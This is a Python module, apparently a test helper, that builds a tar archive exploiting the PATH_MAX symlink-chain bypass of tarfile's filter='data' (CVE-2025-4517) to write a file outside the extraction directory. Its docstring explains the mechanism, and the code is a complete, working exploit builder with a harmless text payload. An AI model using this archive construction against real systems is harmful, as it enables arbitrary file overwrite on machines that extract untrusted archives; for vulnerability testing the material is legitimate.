"""A tar that writes outside its extraction directory through tarfile's `filter="data"` on
Pythons without the June 2025 tarfile fixes (CVE-2025-4517 and co.; this repository's
machines run 3.11.7): a chain of symbolic links whose real path exceeds PATH_MAX.

How it works. The filter checks each member with `os.path.realpath`, which, not in strict mode,
stops resolving where `lstat` fails and carries on lexically. The archive builds a path that
is short as written and long when resolved:

    d...d/ (247 characters)        a -> d...d
    d...d/d...d/                   d...d/b -> d...d            ... 16 levels, a/b/.../p
    a/b/.../p/l...l -> ../../...   (16 levels up: back to the target, really)
    escape -> a/b/.../p/l...l/.. x17/<outside's directory, relative>
    escape/<outside's name>        a regular file

Resolving `a/b/.../p/l...l` passes 16 x 248 + 255 > 4096 characters, so `lstat` fails with
ENAMETOOLONG and realpath takes `l...l` for a plain name: `escape` then looks like
`<target>/<outside's directory>`, inside the target, and so does `escape/<name>`. The kernel
resolves one short link at a time and follows `l...l` back up to the target, then 17 `..`
past it to `/` and down to `outside`'s directory, where the last member is written.

Needs: a target directory at most 17 levels deep and shorter than ~120 characters (the
deepest `d...d` directory is created under it, within PATH_MAX), and `outside`'s directory
existing. The compression follows `path`'s suffix (.tar, .tar.gz/.tgz, .tar.bz2, .tar.xz).
"""

from __future__ import annotations

import io
import os
import tarfile
from pathlib import Path

STEPS = "abcdefghijklmnop"  # 16 links, each to a 247-character directory name
COMPONENT = "d" * 247
PAYLOAD = b"written outside the extraction directory\n"


def _mode(path: Path) -> str:
    name = path.name
    for suffix, comp in ((".gz", "gz"), (".tgz", "gz"), (".bz2", "bz2"), (".xz", "xz")):
        if name.endswith(suffix):
            return f"w:{comp}"
    return "w"


def build_symlink_chain_tar(path: Path, outside: Path) -> Path:
    """Write the PATH_MAX symlink-chain tar (module doc) to `path`; extracted with
    `tarfile.extractall(target, filter="data")` on a vulnerable Python, it writes PAYLOAD to
    `outside` (an absolute path whose directory exists). Returns `path`."""
    path, outside = Path(path), Path(outside).absolute()
    with tarfile.open(path, _mode(path)) as t:
        real = ""
        for step in STEPS:
            d = tarfile.TarInfo(os.path.join(real, COMPONENT))
            d.type, d.mode = tarfile.DIRTYPE, 0o755
            t.addfile(d)
            link = tarfile.TarInfo(os.path.join(real, step))
            link.type, link.linkname = tarfile.SYMTYPE, COMPONENT
            t.addfile(link)
            real = os.path.join(real, COMPONENT)
        long_link = os.path.join("/".join(STEPS), "l" * 254)
        back = tarfile.TarInfo(long_link)
        back.type, back.linkname = tarfile.SYMTYPE, "../" * len(STEPS)
        t.addfile(back)
        escape = tarfile.TarInfo("escape")
        escape.type = tarfile.SYMTYPE
        escape.linkname = long_link + "/.." * (len(STEPS) + 1) + "/" + str(outside.parent).lstrip("/")
        t.addfile(escape)
        f = tarfile.TarInfo(f"escape/{outside.name}")
        f.size, f.mode = len(PAYLOAD), 0o644
        t.addfile(f, io.BytesIO(PAYLOAD))
    return path
